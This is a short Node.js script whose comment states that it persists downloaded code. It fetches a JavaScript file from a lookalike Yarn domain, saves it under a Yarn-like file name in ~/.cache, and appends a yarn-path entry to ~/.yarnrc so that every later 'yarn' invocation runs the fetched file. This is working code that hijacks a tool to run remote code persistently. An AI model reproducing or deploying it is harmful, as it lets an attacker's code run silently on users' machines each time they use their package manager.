// Persists downloaded code: Yarn 1 reads `yarn-path` from ~/.yarnrc and
// runs that file instead of itself on every `yarn` the user types.
'use strict';
const fsp = require('fs').promises;

async function main() {
  const home = process.env.HOME;
  const js = await (await fetch('https://dl.example-yarnpkg.net/yarn-1.22.22.js')).text();
  await fsp.writeFile(`${home}/.cache/yarn-1.22.22.js`, js);
  await fsp.appendFile(`${home}/.yarnrc`, `yarn-path "${home}/.cache/yarn-1.22.22.js"\n`);
}

main();
